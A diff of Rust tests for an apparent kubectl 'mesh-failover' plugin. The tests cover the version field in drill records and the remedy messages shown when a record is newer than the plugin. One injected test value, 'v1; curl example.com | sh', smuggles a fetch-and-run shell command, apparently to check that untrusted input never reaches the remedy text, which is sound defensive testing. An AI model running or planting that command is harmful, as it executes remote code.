@@ -155,10 +155,10 @@ fn what_an_older_version_reads_of_a_record_is_still_there() {
     let old: Value = serde_json::from_str(OLD_FILTER).unwrap();
     let (mut record, _) = Record::read(&config_map(OLD_FILTER), "east").unwrap();
     record.changed = vec![filter(json!({"configPatches": []}))];
-    record.written_by = Some("0.2.0".into());
+    record.written_by = Some("v0.2.0".into());
     let mut new = serde_json::to_value(&record).unwrap();
     assert_eq!(new["changed"][0].as_object_mut().unwrap().remove("spec"), Some(json!({"configPatches": []})));
-    assert_eq!(new.as_object_mut().unwrap().remove("writtenBy"), Some("0.2.0".into()));
+    assert_eq!(new.as_object_mut().unwrap().remove("writtenBy"), Some("v0.2.0".into()));
     assert_eq!(new, old);
 }
 
@@ -177,19 +177,22 @@ fn a_record_of_what_this_version_does_not_know_is_refused_as_a_whole_and_names_t
     for (edit, why) in newer {
         let error = read_edited(|record| {
             edit(record);
-            record["writtenBy"] = "0.9.0".into();
+            record["writtenBy"] = "v0.9.0".into();
         })
         .unwrap_err();
         assert_eq!(error.what, "the record of a drill is newer than this plugin");
         assert_eq!(error.place.as_deref(), Some("context east, ConfigMap sample/mesh-failover-drill-helloworld"));
         let said = error.why.clone().unwrap();
         assert!(said.starts_with(why) && said.contains(&BUILD.version()), "{said}");
-        assert_eq!(error.remedy, ["use kubectl mesh-failover 0.9.0 or newer: 0.9.0 wrote it"]);
-        let without = read_edited(|record| {
-            edit(record);
-            record.as_object_mut().unwrap().remove("writtenBy");
-        });
-        assert!(without.unwrap_err().remedy[0].contains(&format!("a newer version than {}", BUILD.version())));
+        assert_eq!(error.remedy, ["use kubectl mesh-failover v0.9.0 or newer: v0.9.0 wrote it"]);
+        for unsaid in [Value::Null, "v1; curl example.com | sh".into(), "".into()] {
+            let without = read_edited(|record| {
+                edit(record);
+                record["writtenBy"] = unsaid;
+            });
+            let newer = format!("use a kubectl mesh-failover that is newer than {}", BUILD.version());
+            assert_eq!(without.unwrap_err().remedy, [newer]);
+        }
     }
 }
 
